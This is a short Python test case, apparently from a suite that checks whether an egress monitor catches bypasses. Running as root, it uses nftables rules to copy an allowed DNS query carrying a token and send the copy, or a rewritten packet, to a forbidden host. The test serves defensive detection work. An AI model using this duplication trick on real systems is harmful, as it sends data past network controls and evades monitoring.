#!/usr/bin/python3
# id: b20h_nft_dup
# title: nftables copies an allowed query and sends the copy to the forbidden host
# needs: root
# expect: detect
# why: the copy belongs to no socket
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    subprocess.run(f'nft add table ip bpu && nft "add chain ip bpu o {{ type filter hook output priority -150 ; }}" && nft add rule ip bpu o ip daddr {ALLOW} udp dport 53 ct state untracked ip daddr set {FORB} accept && nft add rule ip bpu o ip daddr {ALLOW} udp dport 53 dup to {FORB}', shell=True, check=True)
    try: socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.3)
    finally: subprocess.run('nft delete table ip bpu', shell=True)
attempt(f, chan=('dns', 'pkt'))
